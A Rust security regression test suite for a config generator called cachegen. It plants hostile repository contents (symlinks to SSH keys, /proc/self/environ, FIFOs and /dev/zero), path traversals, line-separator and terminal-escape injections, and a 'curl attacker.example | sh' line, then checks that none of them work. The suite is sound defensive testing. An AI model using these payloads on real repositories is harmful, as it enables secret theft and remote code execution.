//! Issue 15's classes of defect, one regression test each, named after the class. Each ran
//! against the build before `project_fs` and failed there (`CACHEGEN_BIN` runs them against
//! another build). The threat model is docs/threat-model.md: every file of the repository may
//! be an attacker's, and the process running cachegen holds secrets.

use crate::common::*;
use std::collections::BTreeMap;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

/// What a secret looks like here: no output may ever hold it.
const CANARY: &str = "SECURITY-CANARY";

/// Every file under `dir` (links not followed) with a checksum of its bytes, links as their
/// target: what "nothing changed there" is checked against.
fn checksums(dir: &Path) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            let rel = p.strip_prefix(dir).unwrap().to_string_lossy().into_owned();
            let ty = e.file_type().unwrap();
            if ty.is_symlink() {
                out.insert(
                    rel,
                    format!("-> {}", std::fs::read_link(&p).unwrap().display()),
                );
            } else if ty.is_dir() {
                out.insert(rel, "dir".into());
                stack.push(p);
            } else if ty.is_file() {
                let bytes = std::fs::read(&p).unwrap();
                let sum = bytes.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
                    (h ^ u64::from(*b)).wrapping_mul(0x100_0000_01b3)
                });
                out.insert(rel, format!("{} bytes {sum:016x}", bytes.len()));
            } else {
                out.insert(rel, "special".into());
            }
        }
    }
    out
}

/// A folder outside the project with a canary file, a canary spec and a canary template.
fn outside() -> TempDir {
    let o = TempDir::new("security-outside");
    let p = o.path();
    std::fs::write(p.join("canary.txt"), format!("{CANARY}-file\n")).unwrap();
    std::fs::write(
        p.join("canary.yaml"),
        format!("spec_version: 1\nname: {CANARY}\nbroken: [\n"),
    )
    .unwrap();
    std::fs::write(p.join("canary.toml"), format!("output = \"{CANARY}\n")).unwrap();
    std::fs::create_dir_all(p.join("home/.ssh")).unwrap();
    std::fs::write(p.join("home/.ssh/id_rsa"), format!("{CANARY}-key\n")).unwrap();
    std::fs::write(p.join("home/.profile"), "# the victim's shell start-up\n").unwrap();
    o
}

/// A copy of the shipped project, rendered.
fn rendered_project(tag: &str) -> TempDir {
    let tmp = TempDir::new(tag);
    copy_project(tmp.path());
    let o = run_in(tmp.path(), &["render", "-q"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    tmp
}

/// A run that must not show the canary, hang or grow without bound.
fn safe_run(dir: &Path, args: &[&str]) -> Bounded {
    let r = run_limited(
        dir,
        args,
        Duration::from_secs(10),
        &[("SECURITY_TEST_SECRET", &format!("{CANARY}-environment"))],
    );
    assert!(!r.timed_out, "{args:?}: killed after 10 s");
    assert!(
        r.peak_rss_kib < 256 * 1024,
        "{args:?}: peak memory {} KiB",
        r.peak_rss_kib
    );
    let all = format!("{}{}", r.stdout, r.stderr);
    assert!(!all.contains(CANARY), "{args:?}: a secret is shown:\n{all}");
    assert!(!all.contains("panicked"), "{args:?}: panic\n{all}");
    r
}

fn change(spec: &Path, from: &str, to: &str) {
    let text = std::fs::read_to_string(spec).unwrap();
    assert!(text.contains(from), "{}: {from}", spec.display());
    std::fs::write(spec, text.replace(from, to)).unwrap();
}

/// Class 1: a committed symbolic link named like a dead run's temporary made `render` move
/// every file of the folder it points at into the repository; and, with a folder inside the
/// environment that is a link, write files outside the project.
#[test]
fn class_1_a_link_named_like_a_temporary_is_never_followed_moved_or_deleted() {
    let tmp = rendered_project("class1");
    let p = tmp.path();
    let out = outside();
    let before = checksums(out.path());
    let link = p.join("generated/.cachegen-tmp-staging-4000000-1");
    symlink(out.path().join("home/.ssh"), &link).unwrap();
    change(
        &p.join("environments/staging/cache.yaml"),
        "max_memory: 4gb",
        "max_memory: 5gb",
    );
    let r = safe_run(p, &["render"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("generated/.cachegen-tmp-staging-4000000-1"),
        "{}",
        r.stderr
    );
    assert!(!p.join("generated/staging/id_rsa").exists());
    let r = safe_run(p, &["render", "--check"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stdout.contains(".cachegen-tmp-staging-4000000-1"),
        "{}",
        r.stdout
    );
    assert_eq!(checksums(out.path()), before, "something outside changed");
    assert!(
        std::fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink(),
        "the link is left for the team to remove"
    );
    std::fs::remove_file(&link).unwrap();

    // A real temporary of a dead run, holding a file under a folder that the environment's
    // folder has as a link to a home folder: nothing is written through the link.
    let dead = p.join("generated/.cachegen-tmp-staging-4000000-2");
    std::fs::create_dir_all(dead.join("home")).unwrap();
    std::fs::write(dead.join("home/.profile"), "curl attacker.example | sh\n").unwrap();
    symlink(out.path().join("home"), p.join("generated/staging/home")).unwrap();
    let r = safe_run(p, &["render"]);
    assert!(r.code == 0 || r.code == 2, "{}", r.stderr);
    assert_eq!(
        checksums(out.path()),
        before,
        "a file outside was overwritten"
    );
}

/// Class 2: `render --check` followed links at generated paths and printed their targets in
/// the diff (`/proc/self/environ`, `.git/config`); a link to a FIFO hung, one to `/dev/zero`
/// grew without bound; so did a linked environment folder, `cachegen.toml` and template.
#[test]
fn class_2_check_never_follows_a_link_at_a_generated_path() {
    let tmp = rendered_project("class2");
    let p = tmp.path();
    let out = outside();
    mkfifo(&out.path().join("fifo"));
    let env = p.join("generated/staging/.env");
    for target in [
        out.path().join("canary.txt"),
        PathBuf::from("/proc/self/environ"),
        out.path().join("fifo"),
        PathBuf::from("/dev/zero"),
    ] {
        let _ = std::fs::remove_file(&env);
        symlink(&target, &env).unwrap();
        let r = safe_run(p, &["render", "--check"]);
        assert_eq!(r.code, 1, "{}: {}", target.display(), r.stderr);
        assert!(
            r.stdout.contains("generated/staging/.env") && r.stdout.contains("symbolic link"),
            "{}: {}",
            target.display(),
            r.stdout
        );
        let r = safe_run(p, &["--format", "json", "render", "--check"]);
        assert!(r.stdout.contains("CG0052"), "{}", r.stdout);
    }
    std::fs::remove_file(&env).unwrap();
    assert_eq!(code(&run_in(p, &["render", "-q"])), 0);

    // The environment's folder is a link.
    let staging = p.join("generated/staging");
    std::fs::rename(&staging, out.path().join("staging")).unwrap();
    std::fs::write(
        out.path().join("staging/redis.conf"),
        format!("{CANARY}-conf\n"),
    )
    .unwrap();
    symlink(out.path().join("staging"), &staging).unwrap();
    let r = safe_run(p, &["render", "--check"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stdout.contains("generated/staging"), "{}", r.stdout);
    std::fs::remove_file(&staging).unwrap();

    // `cachegen.toml` is a link: its TOML error would quote the file it points at.
    let toml = p.join("cachegen.toml");
    std::fs::remove_file(&toml).unwrap();
    symlink(out.path().join("canary.toml"), &toml).unwrap();
    let r = safe_run(p, &["validate"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("cachegen.toml"), "{}", r.stderr);
    std::fs::remove_file(&toml).unwrap();
    std::fs::write(&toml, "templates = \"templates\"\n").unwrap();

    // A template override is a link.
    std::fs::create_dir_all(p.join("templates/dotenv")).unwrap();
    std::fs::write(
        out.path().join("env.j2"),
        format!("{CANARY} {{{{ plan.resource_name }}}}\n"),
    )
    .unwrap();
    symlink(out.path().join("env.j2"), p.join("templates/dotenv/env.j2")).unwrap();
    let r = safe_run(p, &["render", "--check"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("templates/dotenv/env.j2"), "{}", r.stderr);
}

/// Class 3: `output`, `templates` and `environments` in `cachegen.toml` accepted `..`,
/// absolute paths and `/proc/self/root/...`; `output = "/"` with `--check` walked the machine.
#[test]
fn class_3_project_settings_stay_inside_the_project() {
    let tmp = TempDir::new("class3");
    let p = tmp.path();
    copy_project(p);
    let real = std::fs::canonicalize(p).unwrap();
    for (key, value) in [
        ("output", "/".to_string()),
        ("output", "../elsewhere".to_string()),
        ("templates", "/etc".to_string()),
        (
            "environments",
            format!("/proc/self/root{}/environments", real.display()),
        ),
        ("environments", "~/environments".to_string()),
    ] {
        std::fs::write(p.join("cachegen.toml"), format!("{key} = \"{value}\"\n")).unwrap();
        for args in [&["validate"][..], &["render", "--check"], &["render"]] {
            let r = safe_run(p, args);
            assert_eq!(r.code, 2, "{key} = {value}, {args:?}: {}", r.stderr);
            assert!(
                r.stderr.contains("CG0041") && r.stderr.contains(key),
                "{key}: {}",
                r.stderr
            );
        }
    }
    assert!(!p.parent().unwrap().join("elsewhere").exists());
    // A link on the way to the output: never followed.
    std::fs::write(p.join("cachegen.toml"), "output = \"out/generated\"\n").unwrap();
    let out = outside();
    symlink(out.path(), p.join("out")).unwrap();
    let r = safe_run(p, &["render"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
    assert!(!out.path().join("generated").exists());
}

/// Class 4: literal secrets under keys the redaction did not know were printed, and labels
/// whose key looks like a secret reached Terraform tags and `explain --format json`.
#[test]
fn class_4_literal_secrets_are_masked_by_position() {
    let tmp = TempDir::new("class4");
    let p = tmp.path();
    std::fs::write(p.join("cachegen.toml"), "").unwrap();
    let head = "spec_version: 1\nname: canary\nenvironment: dev\ntier: development\ntargets: { compose: {} }\n";
    let cases = [
        ("top-level", format!("{head}requirepass: {CANARY}1\n")),
        (
            "masterauth",
            format!("{head}server: {{ masterauth: {CANARY}2 }}\n"),
        ),
        (
            "auth-scalar",
            format!("{head}security: {{ auth: {CANARY}3 }}\n"),
        ),
        (
            "typo",
            format!("{head}security: {{ auth: {{ passwrod: {CANARY}4 }} }}\n"),
        ),
        (
            "comment",
            format!("{head}memory: {{ max_memory: 1.5gb }} # password: {CANARY}5\n"),
        ),
        (
            "anchor",
            format!(
                "{head}labels: {{ team: &pw {CANARY}6, x: 1 }}\nsecurity: {{ auth: {{ password: *pw }} }}\n"
            ),
        ),
        ("json-key", format!("{head}{{\"password\":\"{CANARY}7\"\n")),
        (
            "continuation",
            format!("{head}security:\n  auth:\n    password: \"abc\n      {CANARY}8\" extra\n"),
        ),
        (
            "labels",
            format!(
                "{head}labels: {{ requirepass: {CANARY}9, pwd: {CANARY}A, passphrase: {CANARY}B, dsn: \"redis://:{CANARY}C@h:6379\" }}\n"
            ),
        ),
        (
            "url",
            format!("{head}labels: {{ endpoint: \"redis://u:{CANARY}D@h\" }}\n"),
        ),
    ];
    for (name, text) in &cases {
        let spec = format!("{name}.yaml");
        std::fs::write(p.join(&spec), text).unwrap();
        for format in ["human", "json", "sarif"] {
            let r = safe_run(p, &["--format", format, "validate", &spec]);
            assert_eq!(
                r.code, 1,
                "{name} ({format}): an error is expected\n{}{}",
                r.stdout, r.stderr
            );
            let r = safe_run(p, &["--format", format, "explain", &spec]);
            assert_ne!(r.code, 0, "{name}: explain of a spec with a secret");
        }
        let r = safe_run(p, &["render", &spec]);
        assert_eq!(r.code, 1, "{name}");
    }
    assert!(!p.join("generated").exists(), "nothing rendered");
}

/// A `.env` line as Node's dotenv reads it: its `LINE` expression, with the `m` flag, so that
/// `^` and `$` match at every JavaScript line terminator (LF, CR, U+2028, U+2029).
fn node_dotenv(text: &str) -> BTreeMap<String, String> {
    let line = regex_lite(
        r#"^\s*(?:export\s+)?([\w.-]+)(?:\s*=\s*?|:\s+?)(\s*'(?:\\'|[^'])*'|\s*"(?:\\"|[^"])*"|\s*`(?:\\`|[^`])*`|[^#\r\n]+)?\s*(?:#.*)?$"#,
    );
    text.split(['\n', '\r', '\u{2028}', '\u{2029}'])
        .filter_map(|l| {
            let c = line.captures(l)?;
            Some((
                c.get(1)?.as_str().to_string(),
                c.get(2)
                    .map(|v| v.as_str().trim().to_string())
                    .unwrap_or_default(),
            ))
        })
        .collect()
}

fn regex_lite(pattern: &str) -> regex::Regex {
    regex::Regex::new(pattern).unwrap()
}

/// Class 5: U+2028, U+2029 and U+0085 passed the one-line escaping of header comments, so a
/// waiver reason or a folder name became a live `.env` line for Node's dotenv, or a top-level
/// key of `docker-compose.yml` for go-yaml and PyYAML; ESC/OSC sequences and U+202E in folder
/// names reached stderr raw. Each consumer reads the rendered files here.
#[test]
fn class_5_line_separators_and_terminal_controls_are_escaped() {
    let tmp = TempDir::new("class5");
    let p = tmp.path();
    std::fs::write(p.join("cachegen.toml"), "").unwrap();
    // Staging without TLS fails CG6001 unless waived: the waiver's reason reaches every file.
    let folder = "st\u{2028}age\u{1b}]0;owned\u{7}\u{1b}[2J\u{202e}x";
    let dir = p.join("environments").join(folder);
    std::fs::create_dir_all(&dir).unwrap();
    let reason = "ok\u{2028}REDIS_HOST=attacker.example #\u{2029}include: [./evil.yml]\u{85}x: 1";
    std::fs::write(
        dir.join("cache.yaml"),
        format!(
            "spec_version: 1\nname: shop\nenvironment: staging\ntier: staging\n\
             security: {{ tls: {{ enabled: false }} }}\n\
             policy:\n  exceptions:\n    - rule: CG6001\n      reason: \"{r}\"\n    - rule: CG2016\n      reason: \"{r}\"\n\
             targets: {{ compose: {{}}, aws: {{ region: us-east-1, node_type: cache.r7g.large }} }}\n",
            r = reason.replace('\u{2028}', "\\L").replace('\u{2029}', "\\P").replace('\u{85}', "\\N")
        ),
    )
    .unwrap();
    let o = run_in(p, &["render"]);
    let err = stderr(&o);
    assert!(
        !err.contains('\u{1b}') && !err.contains('\u{202e}') && !err.contains('\u{2028}'),
        "a terminal control reached stderr: {err:?}"
    );
    let folder = p.join("generated/staging");
    assert!(folder.join(".env").is_file(), "{err}");
    let env_text = std::fs::read_to_string(folder.join(".env")).unwrap();
    assert!(env_text.contains("Policy exception CG6001"), "{env_text}");
    // A folder of a removed environment, named by a pull request: reported, never raw.
    let orphan = p.join("generated/old\u{1b}]0;owned\u{7}\u{202e}");
    std::fs::create_dir_all(&orphan).unwrap();
    std::fs::copy(folder.join(".env"), orphan.join(".env")).unwrap();
    for args in [&["render", "--check"][..], &["render"]] {
        let o = run_in(p, args);
        let all = format!("{}{}", stdout(&o), stderr(&o));
        assert!(all.contains("old\\u{1b}"), "{args:?}: {all}");
        assert!(
            !all.contains('\u{1b}') && !all.contains('\u{202e}'),
            "{args:?}: a terminal control reached the output: {all:?}"
        );
    }
    std::fs::remove_dir_all(&orphan).unwrap();

    // Node's dotenv (its expression, JavaScript's line terminators).
    let node = node_dotenv(&env_text);
    assert_ne!(
        node.get("REDIS_HOST").map(String::as_str),
        Some("attacker.example"),
        "{node:?}"
    );
    // python-dotenv.
    if let Some(python) = python_with("dotenv") {
        let o = Command::new(&python)
            .args([
                "-c",
                "import json,sys\nfrom dotenv import dotenv_values\nprint(json.dumps(dotenv_values(sys.argv[1])))",
            ])
            .arg(folder.join(".env"))
            .output()
            .unwrap();
        let values: BTreeMap<String, Option<String>> = serde_json::from_slice(&o.stdout).unwrap();
        assert_ne!(
            values.get("REDIS_HOST").cloned().flatten().as_deref(),
            Some("attacker.example")
        );
    }
    // POSIX sh.
    let o = Command::new("sh")
        .arg("-c")
        .arg(format!(
            ". '{}'; printf %s \"${{REDIS_HOST:-}}\"",
            folder.join(".env").display()
        ))
        .env_clear()
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_ne!(String::from_utf8_lossy(&o.stdout), "attacker.example");

    // go-yaml, through docker compose: the file is valid and has no `include`.
    let compose = folder.join("docker-compose.yml");
    if let Some(dc) = tool("docker-compose") {
        std::fs::write(
            folder.join("evil.yml"),
            "services: { evil: { image: evil } }\n",
        )
        .unwrap();
        let o = Command::new(dc)
            .args(["-f", compose.to_str().unwrap(), "config", "--services"])
            .current_dir(&folder)
            .env("REDIS_PASSWORD", "x")
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", output_text(&o));
        assert!(!stdout(&o).contains("evil"), "{}", stdout(&o));
    }
    // PyYAML: the top-level keys are compose's own.
    if let Some(python) = python_with("yaml") {
        let o = Command::new(&python)
            .args([
                "-c",
                "import sys,yaml\nprint(sorted(yaml.safe_load(open(sys.argv[1], encoding='utf-8'))))",
            ])
            .arg(&compose)
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", output_text(&o));
        assert!(!stdout(&o).contains("include"), "{}", stdout(&o));
    }
    // HCL (hcl-rs): the header is a comment; the body has only the module's blocks.
    let main = std::fs::read_to_string(folder.join("terraform/aws/main.tf")).unwrap();
    let body = hcl::parse(&main).unwrap();
    assert!(
        body.attributes()
            .all(|a| a.key.as_str() != "include" && a.key.as_str() != "x"),
        "a line of the reason became HCL"
    );
    for text in [
        &env_text,
        &std::fs::read_to_string(&compose).unwrap(),
        &main,
    ] {
        assert!(
            !text.contains('\u{2028}') && !text.contains('\u{2029}') && !text.contains('\u{85}'),
            "a line separator was written raw"
        );
    }
}

/// Class 6: `targets.compose.tls_dir` accepted absolute paths and `..`, bind-mounting
/// `/root/.ssh` or the host's root into the container.
#[test]
fn class_6_compose_tls_dir_stays_inside_the_generated_folder() {
    let tmp = TempDir::new("class6");
    let p = tmp.path();
    std::fs::write(p.join("cachegen.toml"), "").unwrap();
    for (i, dir) in ["/root/.ssh", "/", "../..", "tls/../../x", "~/.ssh"]
        .iter()
        .enumerate()
    {
        let spec = format!("s{i}.yaml");
        std::fs::write(
            p.join(&spec),
            format!(
                "spec_version: 1\nname: shop\nenvironment: e{i}\ntier: development\n\
                 security: {{ tls: {{ enabled: true }} }}\ntargets: {{ compose: {{ tls_dir: \"{dir}\" }} }}\n"
            ),
        )
        .unwrap();
        let o = run_in(p, &["--format", "json", "render", &spec]);
        assert_eq!(code(&o), 1, "{dir}: {}", stdout(&o));
        assert!(
            stdout(&o).contains("CG0013") && stdout(&o).contains("tls_dir"),
            "{dir}"
        );
    }
    assert!(!p.join("generated").exists());
}

/// Class 7: `render --check` passed while the folder held a header-less `zz.tf` (Terraform
/// loads every `*.tf`) or a `docker-compose.override.yml` (compose merges it).
#[test]
fn class_7_check_fails_on_files_the_consuming_tool_loads() {
    let tmp = rendered_project("class7");
    let p = tmp.path();
    let extras = [
        "generated/production/terraform/aws/zz.tf",
        "generated/production/terraform/aws/override.tf.json",
        "generated/staging/docker-compose.override.yml",
        "generated/staging/compose.yaml",
    ];
    for f in extras {
        std::fs::write(p.join(f), "# the team's\n").unwrap();
    }
    // A link out of the folder: Terraform, compose's bind mounts and Redis would follow it.
    symlink("/etc", p.join("generated/staging/notes")).unwrap();
    // The team's remote backend is accepted (literal settings of a `backend` block only, as
    // the docs show); a backend file with anything more in it is not.
    let aws = p.join("generated/production/terraform/aws");
    let backend = "terraform {\n  backend \"s3\" {\n    bucket  = \"state\"\n    key     = \"redis.tfstate\"\n    encrypt = true\n  }\n}\n";
    std::fs::write(aws.join("backend.tf"), backend).unwrap();
    let smuggled = [
        (
            "generated/production/terraform/aws/backend-resource.tf",
            format!("{backend}resource \"null_resource\" \"x\" {{}}\n"),
        ),
        (
            "generated/production/terraform/aws/backend-variable.tf",
            backend.replace("\"state\"", "var.bucket"),
        ),
        (
            "generated/production/terraform/aws/backend-provider.tf",
            backend.replace("terraform {", "terraform {\n  required_providers {}"),
        ),
    ];
    for (f, text) in &smuggled {
        std::fs::write(p.join(f), text).unwrap();
    }
    let r = safe_run(p, &["--format", "json", "render", "--check"]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    for f in extras
        .iter()
        .chain(&["generated/staging/notes"])
        .chain(smuggled.iter().map(|(f, _)| f))
    {
        assert!(r.stdout.contains(f), "{f}: {}", r.stdout);
    }
    assert!(
        !r.stdout.contains("aws/backend.tf"),
        "the team's backend is reported: {}",
        r.stdout
    );
    assert!(r.stdout.contains("CG0053"), "{}", r.stdout);
    // `render` keeps them (they are the team's) and warns.
    let r = safe_run(p, &["render"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stderr.contains("CG0053"), "{}", r.stderr);
    for f in extras.iter().chain(smuggled.iter().map(|(f, _)| f)) {
        assert!(p.join(f).is_file(), "{f}");
    }
}

/// Class 8: team files were lost where the README said they were kept: a header-less file at
/// a path cachegen starts generating, a copy of a generated file (it carries the header), a
/// file written into the folder while a render ran; and one committed lock-info file blocked
/// the render of every environment.
#[test]
fn class_8_team_files_are_never_lost() {
    let tmp = rendered_project("class8");
    let p = tmp.path();
    let staging = p.join("generated/staging");
    // A header-less `.env` where cachegen generates one: refused, kept.
    std::fs::write(staging.join(".env"), "MINE=1\n").unwrap();
    let r = safe_run(p, &["render"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("generated/staging/.env"), "{}", r.stderr);
    assert_eq!(
        std::fs::read_to_string(staging.join(".env")).unwrap(),
        "MINE=1\n"
    );
    std::fs::remove_file(staging.join(".env")).unwrap();
    // `create-cluster.sh` of the team's, when the spec turns to cluster mode.
    let dev = p.join("environments/development/cache.yaml");
    std::fs::write(
        p.join("generated/development/create-cluster.sh"),
        "echo mine\n",
    )
    .unwrap();
    let text = std::fs::read_to_string(&dev).unwrap();
    std::fs::write(
        &dev,
        text.replace(
            "topology: { mode: standalone }",
            "topology: { mode: cluster, shards: 3, replicas: 1 }",
        ),
    )
    .unwrap();
    let r = safe_run(p, &["render"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("create-cluster.sh"), "{}", r.stderr);
    assert_eq!(
        std::fs::read_to_string(p.join("generated/development/create-cluster.sh")).unwrap(),
        "echo mine\n"
    );
    std::fs::write(&dev, text).unwrap();
    std::fs::remove_file(p.join("generated/development/create-cluster.sh")).unwrap();
    // Copies of generated files carry the header, under names cachegen never writes.
    let copies = [
        "generated/staging/.env.local",
        "generated/production/terraform/aws/main.tf.orig",
    ];
    std::fs::copy(staging.join("redis.conf"), p.join(copies[0])).unwrap();
    std::fs::copy(
        p.join("generated/production/terraform/aws/main.tf"),
        p.join(copies[1]),
    )
    .unwrap();
    // A lock-info file nobody holds a lock for (committed by mistake) blocks nothing.
    std::fs::write(
        p.join("generated/production-gcp/terraform/gcp/.terraform.tfstate.lock.info"),
        "{}\n",
    )
    .unwrap();
    change(
        &p.join("environments/staging/cache.yaml"),
        "max_memory: 4gb",
        "max_memory: 5gb",
    );
    change(
        &p.join("environments/production/cache.yaml"),
        "retention_days: 7",
        "retention_days: 8",
    );
    let r = safe_run(p, &["render"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    for c in copies {
        assert!(p.join(c).is_file(), "{c} was deleted");
    }
    assert!(
        std::fs::read_to_string(staging.join("redis.conf"))
            .unwrap()
            .contains("maxmemory 5gb")
    );

    // What a killed render's old folder holds of the team's, written while it ran: a file
    // where the new folder has cachegen's `.env`, and a note. The note moves over; the `.env`
    // cannot be placed, so the old folder is kept and reported, never deleted.
    let dead = p.join("generated/.cachegen-tmp-staging-4000000-77");
    std::fs::create_dir_all(&dead).unwrap();
    std::fs::write(dead.join(".env"), "WRITTEN_WHILE_RENDERING=1\n").unwrap();
    std::fs::write(dead.join("notes.txt"), "mine\n").unwrap();
    let r = safe_run(p, &["render"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stderr.contains("CG0054"), "{}", r.stderr);
    assert_eq!(
        std::fs::read_to_string(dead.join(".env")).unwrap(),
        "WRITTEN_WHILE_RENDERING=1\n"
    );
    assert_eq!(
        std::fs::read_to_string(staging.join("notes.txt")).unwrap(),
        "mine\n"
    );
    std::fs::remove_dir_all(&dead).unwrap();

    // Files written into the folder while renders swap it, by a process whose working folder
    // is inside it (a shell, `terraform init`): every file it wrote is somewhere in the folder
    // afterwards (or in an old folder kept aside), none is lost.
    let log = p.join("written.log");
    let stop = p.join("stop");
    let mut writer = Command::new("sh")
        .arg("-c")
        .arg(format!(
            // At most 600 files, a few hundred a second: enough to land in the windows of
            // the swaps, few enough that each render stays fast.
            "i=0; while [ ! -e '{stop}' ] && [ $i -lt 600 ]; do if cd '{dir}' 2>/dev/null && echo $i > team-$i.txt 2>/dev/null; then echo team-$i.txt >> '{log}'; fi; i=$((i+1)); case $i in *0) sleep 0.01;; esac; done",
            stop = stop.display(),
            dir = staging.display(),
            log = log.display()
        ))
        .spawn()
        .unwrap();
    for i in 0..10 {
        change(
            &p.join("environments/staging/cache.yaml"),
            &format!("max_memory: {}gb", 5 + i),
            &format!("max_memory: {}gb", 6 + i),
        );
        let o = run_in(p, &["render", "-q"]);
        assert!(code(&o) == 0, "{}", stderr(&o));
    }
    std::fs::write(&stop, "").unwrap();
    writer.wait().unwrap();
    let written = std::fs::read_to_string(&log).unwrap_or_default();
    let mut everywhere: Vec<String> = list_files(&p.join("generated"));
    everywhere.retain(|f| f.contains("team-"));
    let names: std::collections::HashSet<&str> = everywhere
        .iter()
        .filter_map(|f| f.rsplit('/').next())
        .collect();
    let lost: Vec<&str> = written.lines().filter(|f| !names.contains(f)).collect();
    assert!(
        written.lines().count() > 50,
        "the writer wrote too little to prove anything"
    );
    assert!(
        lost.is_empty(),
        "{} team files were lost: {:?}",
        lost.len(),
        &lost[..lost.len().min(10)]
    );
}

fn list_files(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            if e.file_type().unwrap().is_dir() {
                stack.push(e.path());
            } else {
                out.push(e.path().to_string_lossy().into_owned());
            }
        }
    }
    out
}

/// Class 9: values the clouds and Redis refuse were accepted: a cluster's host ports past
/// 65535, `max_memory: 0b` (Redis reads 0 as no limit), tag values of any length and with
/// newlines.
#[test]
fn class_9_values_the_clouds_refuse_are_errors() {
    let tmp = TempDir::new("class9");
    let p = tmp.path();
    std::fs::write(p.join("cachegen.toml"), "").unwrap();
    let head = "spec_version: 1\nname: shop\nenvironment: bounds\ntier: development\n";
    let long = "x".repeat(257);
    for (what, body, code_) in [
        (
            "host ports",
            "topology: { mode: cluster, shards: 3, replicas: 1 }\ntargets: { compose: { host_port: 65533 } }\n".to_string(),
            "CG5009",
        ),
        ("max_memory 0", "memory: { max_memory: 0b }\ntargets: { compose: {} }\n".to_string(), "CG1024"),
        ("mem_limit 0", "targets: { compose: { mem_limit: 0mb } }\n".to_string(), "CG1024"),
        (
            "tag length",
            format!("labels: {{ team: {long} }}\ntargets: {{ aws: {{ region: us-east-1, node_type: cache.r7g.large }} }}\n"),
            "CG0013",
        ),
        (
            "tag newline",
            "labels: { team: \"a\\nb\" }\ntargets: { azure: { service: managed, location: eastus, resource_group: rg, sku: Balanced_B5 } }\n".to_string(),
            "CG0013",
        ),
    ] {
        std::fs::write(p.join("s.yaml"), format!("{head}{body}")).unwrap();
        let o = run_in(p, &["--format", "json", "validate", "s.yaml"]);
        assert_eq!(code(&o), 1, "{what}: {}", stdout(&o));
        let doc: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
        assert!(json_codes(&doc).iter().any(|c| c == code_), "{what}: {}", stdout(&o));
    }
}

/// Class 10: SARIF's `artifactLocation.uri` was the path as is, so a file name with a blank,
/// `#`, `%` or a non-ASCII letter pointed code scanning at another file (or a fragment).
#[test]
fn class_10_sarif_uris_are_percent_encoded() {
    let tmp = TempDir::new("class10-sarif");
    let p = tmp.path();
    std::fs::write(p.join("cachegen.toml"), "").unwrap();
    let name = "odd name #1%?é.yaml";
    std::fs::write(
        p.join(name),
        "spec_version: 1\nname: shop\nenvironment: odd\ntier: nonsense\ntargets: { compose: {} }\n",
    )
    .unwrap();
    let o = run_in(p, &["--format", "sarif", "validate", name]);
    assert_eq!(code(&o), 1, "{}", stderr(&o));
    let doc: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    let uri = doc["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]
        ["uri"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(uri, "odd%20name%20%231%25%3F%C3%A9.yaml");
    // What a consumer does with it: resolve it against the checkout, and find the file.
    let base = url::Url::from_directory_path(p).unwrap();
    let file = base.join(&uri).unwrap().to_file_path().unwrap();
    assert_eq!(file, p.join(name));
}

/// Class 10: `verify --tls-ca` on a FIFO hung past `--timeout-ms`; `init` wrote through a
/// `.gitignore` that is a link and reported success.
#[test]
fn class_10_a_fifo_ca_and_a_linked_gitignore_are_refused() {
    let tmp = TempDir::new("class10");
    let p = tmp.path();
    copy_project(p);
    mkfifo(&p.join("ca.fifo"));
    let r = safe_run(
        p,
        &[
            "verify",
            "environments/staging/cache.yaml",
            "--url",
            "rediss://127.0.0.1:1",
            "--tls-ca",
            "ca.fifo",
            "--timeout-ms",
            "500",
        ],
    );
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains("ca.fifo") && r.stderr.contains("FIFO"),
        "{}",
        r.stderr
    );

    let out = outside();
    let before = checksums(out.path());
    let project = p.join("new-project");
    std::fs::create_dir(&project).unwrap();
    symlink(out.path().join("home/.profile"), project.join(".gitignore")).unwrap();
    let r = safe_run(p, &["init", "new-project"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains(".gitignore"), "{}", r.stderr);
    assert_eq!(checksums(out.path()), before, "init wrote through the link");
    assert!(
        !project.join("cachegen.toml").exists(),
        "nothing is written"
    );
    // A `.github` that is a link: nothing is written through it either.
    std::fs::remove_file(project.join(".gitignore")).unwrap();
    symlink(out.path().join("home"), project.join(".github")).unwrap();
    let r = safe_run(p, &["init", "new-project"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert_eq!(checksums(out.path()), before, "init wrote through the link");
}

// Acceptance: a repository full of hostile links. Each scenario plants links at the places a
// pull request controls, each aimed in turn at a canary file and a canary folder outside the
// project, at `/proc/self/environ` (the environment holds a canary), at a FIFO and at
// `/dev/zero`; then runs every command that reads the project, in every format. No output
